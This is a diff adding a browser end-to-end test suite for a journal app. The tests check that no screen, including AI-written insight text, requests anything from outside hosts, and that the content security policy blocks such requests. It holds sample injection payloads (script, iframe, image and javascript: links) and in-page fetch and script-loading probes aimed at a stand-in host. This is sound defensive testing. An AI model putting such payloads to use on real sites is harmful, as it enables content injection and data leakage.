@@ -1,0 +1,140 @@
+import type { InsightJobDto } from '@inner-weather/contracts/insights.dto';
+import type { Browser } from 'playwright-core';
+import { Api, type Person } from '../support/api.js';
+import { launch, Visit } from '../support/browser.js';
+import { readE2eConfig } from '../support/config.js';
+
+const ELSEWHERE = 'https://elsewhere.example';
+
+/** What a model could write that wants something from elsewhere. */
+const HOSTILE = `# A week
+
+![a picture](${ELSEWHERE}/picture.png) <img src="${ELSEWHERE}/image.png"> <script src="${ELSEWHERE}/script.js"></script>
+
+<link rel="stylesheet" href="${ELSEWHERE}/style.css"><iframe src="${ELSEWHERE}/frame"></iframe>
+<style>body { background: url(${ELSEWHERE}/background.png) }</style>
+
+[a walk](${ELSEWHERE}/walk) [a trap](javascript:fetch('${ELSEWHERE}/trap'))
+![reference][1]
+
+[1]: ${ELSEWHERE}/reference.png`;
+
+/** What a page may be made to ask for from within, with no help of ours. */
+const ATTEMPTS = `
+  new Image().src = '${ELSEWHERE}/probe.png';
+  fetch('${ELSEWHERE}/probe').catch(() => undefined);
+  const script = document.createElement('script');
+  script.src = '${ELSEWHERE}/probe.js';
+  document.body.append(script);`;
+
+describe('the page', () => {
+  let browser: Browser;
+  let ada: Person;
+  let visit: Visit;
+
+  beforeAll(async () => {
+    ada = await new Api(readE2eConfig().url).signUp();
+    await ada.stamped((await ada.write())._id);
+    const asked = await ada.request<InsightJobDto>('POST', '/api/insights', { body: { range: 'lastWeek' } });
+    await ada.finished(asked.body.id);
+    browser = await launch();
+  });
+
+  afterAll(() => browser.close());
+
+  beforeEach(async () => {
+    visit = await Visit.start(browser);
+  });
+
+  afterEach(() => visit.close());
+
+  /** Follows every link of ours from here on; answers the paths of all the screens that it came to. */
+  async function walkEverywhere(): Promise<string[]> {
+    const { page } = visit;
+    const known = new Set([new URL(page.url()).pathname]);
+    for (const path of known) {
+      await page.goto(path);
+      await page.getByRole('heading', { level: 1 }).waitFor();
+      // What a screen fetches when it is shown.
+      await page.waitForLoadState('networkidle');
+      const links = await page
+        .locator('a[href^="/"]')
+        .evaluateAll((all) => all.map((a) => a.getAttribute('href')));
+      for (const link of links) known.add(new URL(link ?? '/', page.url()).pathname);
+    }
+    return [...known].sort();
+  }
+
+  it('asks nobody but the journal for anything, on every screen that a visitor can reach', async () => {
+    await visit.page.goto('/');
+    expect(await walkEverywhere()).toEqual(expect.arrayContaining(['/', '/login', '/signup']));
+    expect(visit.foreign).toEqual([]);
+    expect(visit.errors).toEqual([]);
+  });
+
+  it('asks nobody else on every screen behind the login either', async () => {
+    await visit.logIn(ada);
+    expect(await walkEverywhere()).toEqual(expect.arrayContaining(['/', '/journal', '/insights']));
+    expect(visit.foreign).toEqual([]);
+    expect(visit.errors).toEqual([]);
+  });
+
+  it('asks nobody for what a model has written', async () => {
+    const { page } = visit;
+    await page.route('**/api/insights/*', async (route) => {
+      const answer = await route.fetch();
+      const job = (await answer.json()) as InsightJobDto;
+      await route.fulfill({ response: answer, json: { ...job, text: HOSTILE } });
+    });
+    await visit.logIn(ada);
+    await page.goto('/insights');
+    await page.getByRole('button', { name: /Last Week/ }).click();
+    const link = page.getByRole('link', { name: 'a walk' });
+    await link.waitFor();
+    expect(await link.getAttribute('rel')).toContain('noreferrer');
+    await page.getByText('(elsewhere.example)').waitFor();
+    expect(await page.getByRole('link', { name: 'a trap' }).count()).toBe(0);
+    await page.waitForLoadState('networkidle');
+    expect(visit.foreign).toEqual([]);
+    expect(visit.errors).toEqual([]);
+  });
+
+  it('could not even if it tried: its policy keeps every request at home', async () => {
+    const { page } = visit;
+    const reached: string[] = [];
+    await page.context().route(`${ELSEWHERE}/**`, async (route) => {
+      reached.push(route.request().url());
+      await route.abort();
+    });
+    await page.goto('/');
+    const violations = page.evaluate(
+      () =>
+        new Promise<string[]>((resolve) => {
+          const blocked: string[] = [];
+          document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) => {
+            blocked.push(effectiveDirective);
+            if (blocked.length === 3) resolve(blocked.sort());
+          });
+        }),
+    );
+    await page.evaluate(ATTEMPTS);
+    expect(await violations).toEqual(['connect-src', 'img-src', 'script-src-elem']);
+    expect(reached).toEqual([]);
+  });
+
+  it('runs no script and takes no style that stands in the page itself', async () => {
+    const { page } = visit;
+    await page.goto('/');
+    const ran = await page.evaluate(() => {
+      const script = document.createElement('script');
+      script.textContent = 'window.ran = true';
+      const button = document.createElement('button');
+      button.setAttribute('onclick', 'window.ran = true');
+      button.setAttribute('style', 'position: fixed; top: 77px');
+      document.body.append(script, button);
+      button.click();
+      return ['ran' in window, getComputedStyle(button).top];
+    });
+    expect(ran).toEqual([false, 'auto']);
+  });
+});
